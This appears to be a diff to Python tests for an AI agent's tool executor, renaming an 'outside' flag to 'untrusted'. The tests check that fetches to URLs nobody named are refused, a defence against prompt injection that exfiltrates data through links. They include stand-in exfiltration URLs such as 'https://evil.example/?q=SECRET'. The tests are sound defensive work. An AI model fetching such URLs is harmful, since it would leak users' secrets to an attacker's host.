@@ -144,7 +144,7 @@ def test_g03_a_conversation_is_known_from_its_start() -> None:
     for unknown in ("https://evil.example/?q=SECRET", "https://image.example/x.png", "https://other.example/"):
         assert links.as_found(unknown) is None
     assert not ToolContext.for_conversation("r1", messages[:3]).url_allowlist.is_closed
-    ours = ToolMessage("c", "calculate", "2", outside=False)
+    ours = ToolMessage("c", "calculate", "2", untrusted=False)
     assert not ToolContext.for_conversation("r1", [ours]).url_allowlist.is_closed
 
 
@@ -176,7 +176,7 @@ def test_g03_nor_does_one_of_an_earlier_question(name: str, arguments: JsonObjec
 
 def test_g03_our_own_refusals_name_nothing() -> None:
     """They quote what a model wrote, also shortened."""
-    ours = ToolMessage("c", "search_web", f'time_hint: got the string "{EVIL[:-3]}…"', outside=False)
+    ours = ToolMessage("c", "search_web", f'time_hint: got the string "{EVIL[:-3]}…"', untrusted=False)
     theirs = ToolMessage("d", "search_web", PAGE)
     links = ToolContext.for_conversation("r", [ours, theirs]).url_allowlist
     assert (links.as_found(EVIL[:-3]), links.as_found(PAGE)) == (None, PAGE)
@@ -258,7 +258,7 @@ async def test_g03_the_executor_refuses_what_nobody_named() -> None:
     await executor.run("find", {}, context)
     context.begin_step()
     refused = await executor.run("fetch", {"url": "https://evil.example/?q=SECRET"}, context)
-    assert (refused.success, refused.code, refused.outside) == (False, Code.URL_NOT_FOUND_HERE, False)
+    assert (refused.success, refused.code, refused.untrusted) == (False, Code.URL_NOT_FOUND_HERE, False)
     assert "answer without it" in refused.error
     assert (await executor.run("fetch", {"url": f"{PAGE}&utm_term=SECRET"}, context)).success
     assert asked == [PAGE]
@@ -271,7 +271,7 @@ async def test_g03_results_of_our_own_close_nothing() -> None:
     context = ToolContext()
     outcome = await executor.run("find", {}, context)
     context.begin_step()
-    assert not outcome.outside
+    assert not outcome.untrusted
     assert (await executor.run("fetch", {"url": "https://own.example/"}, context)).success
     assert asked == ["https://own.example/"]
 
